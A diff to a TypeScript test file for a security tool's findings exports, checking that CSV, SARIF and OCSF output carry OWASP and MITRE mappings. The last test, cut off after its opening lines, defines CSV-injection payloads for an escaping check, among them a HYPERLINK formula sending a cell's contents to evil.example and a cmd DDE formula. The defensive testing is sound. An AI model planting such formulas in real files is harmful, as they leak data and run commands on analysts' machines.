@@ -226,6 +226,81 @@ describe('findings exports (SARIF 2.1.0, OCSF Detection Finding)', () => {
     expect([bad.code, bad.stderr]).toEqual([2, expect.stringMatching(/--ndjson/)]);
   }, 60_000);
 
+  it("carries each check's framework mappings and peers: CSV columns, SARIF rule properties, OCSF attacks and tags", () => {
+    const base = findings[0]!;
+    // One check given an ATLAS sub-technique, an OWASP item and a peer; another with no mapping at all (the near-miss).
+    const mapped: CheckMetadata = {
+      ...checks[0]!,
+      frameworks: { 'owasp-llm-2025': ['LLM01: Prompt Injection'], 'mitre-atlas': ['AML.T0051.001: LLM Prompt Injection: Indirect'] },
+      peers: ['Maester MT.1114 (exceeds: every environment)'],
+    };
+    const bare: CheckMetadata = { ...checks[1]!, frameworks: {}, peers: [] };
+    const withMappings = checks.map((c) => (c.id === mapped.id ? mapped : c.id === bare.id ? bare : c));
+    const rows = [
+      { ...base, id: 'fnd_mapped', check_id: mapped.id },
+      { ...base, id: 'fnd_bare', check_id: bare.id },
+    ];
+    // CSV: the last two columns, `<framework>/<entry>` and the peer strings, each joined by " | "; empty when none.
+    const [header, ...records] = parseCsv(renderFindings(rows, 'csv', { checks: withMappings, tenants: new Map(), version: '0.1.0' }));
+    expect(header!.slice(-2)).toEqual(['frameworks', 'peers']);
+    const expectedFrameworks = Object.entries(mapped.frameworks).flatMap(([k, v]) => v.map((e) => `${k}/${e}`));
+    expect(records[0]!.slice(-2)).toEqual([expectedFrameworks.join(' | '), mapped.peers.join(' | ')]);
+    expect(records[1]!.slice(-2)).toEqual(['', '']);
+    // SARIF: the rule carries the mappings as properties (and the frameworks as tags).
+    const rules = findingsToSarif(rows, withMappings, { version: '0.1.0' }).runs[0]!.tool.driver.rules;
+    expect(rules.find((r) => r.id === mapped.id)!.properties).toMatchObject({ frameworks: mapped.frameworks, peers: mapped.peers });
+    expect(rules.find((r) => r.id === bare.id)!.properties.peers).toEqual([]);
+    // OCSF: ATLAS/ATT&CK entries become attack objects (a sub-technique with its technique), every mapping a tag.
+    const e = findingToOcsf(rows[0]!, mapped, { product: vigilProduct('0.1.0') });
+    expect(validateOcsf(e), errors(validateOcsf)).toBe(true);
+    expect(validateOcsfOfficial(e), errors(validateOcsfOfficialBase)).toBe(true);
+    expect(e.finding_info.attacks).toEqual([
+      {
+        technique: { uid: 'AML.T0051', name: 'LLM Prompt Injection' },
+        sub_technique: { uid: 'AML.T0051.001', name: 'LLM Prompt Injection: Indirect' },
+        version: '5.6.0',
+      },
+    ]);
+    expect(e.finding_info.tags).toEqual([
+      { name: 'owasp-llm-2025', values: ['LLM01: Prompt Injection'] },
+      { name: 'mitre-atlas', values: ['AML.T0051.001: LLM Prompt Injection: Indirect'] },
+      { name: 'peers', values: ['Maester MT.1114 (exceeds: every environment)'] },
+    ]);
+    const plain = findingToOcsf(rows[1]!, bare, { product: vigilProduct('0.1.0') });
+    expect([plain.finding_info.attacks, plain.finding_info.tags]).toEqual([undefined, undefined]);
+    // A detection's alert carries its ATT&CK mapping the same way.
+    const alert = alertToOcsf(
+      {
+        id: 'alr_1',
+        integration_id: 'int_x',
+        rule_id: 'admin_consent_granted',
+        severity: 'high',
+        status: 'new',
+        title: 't',
+        dedupe_key: 'k',
+        detail: null,
+        window_start: null,
+        window_end: null,
+        created_at: '2026-03-01T10:00:00.000Z',
+        updated_at: '2026-03-01T10:00:00.000Z',
+      },
+      {
+        id: 'admin_consent_granted',
+        title: 'Admin consent',
+        description: 'd',
+        response: 'r',
+        references: [],
+        frameworks: { 'mitre-attack': ['T1098.003: Additional Cloud Roles'] },
+        peers: [],
+      },
+      { product: vigilProduct('0.1.0') },
+    );
+    expect(validateOcsfOfficial(alert), errors(validateOcsfOfficialBase)).toBe(true);
+    expect(alert.finding_info.attacks).toEqual([
+      { technique: { uid: 'T1098', name: 'Account Manipulation' }, sub_technique: { uid: 'T1098.003', name: 'Account Manipulation: Additional Cloud Roles' } },
+    ]);
+  });
+
   it('the CSV export opens inert: cells that a spreadsheet would read as formulas are prefixed with a quote', () => {
     // What a tenant's maker can name a resource (an app, a flow, an agent) for the analyst who opens the export.
     const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', "=cmd|' /C calc'!A0"];
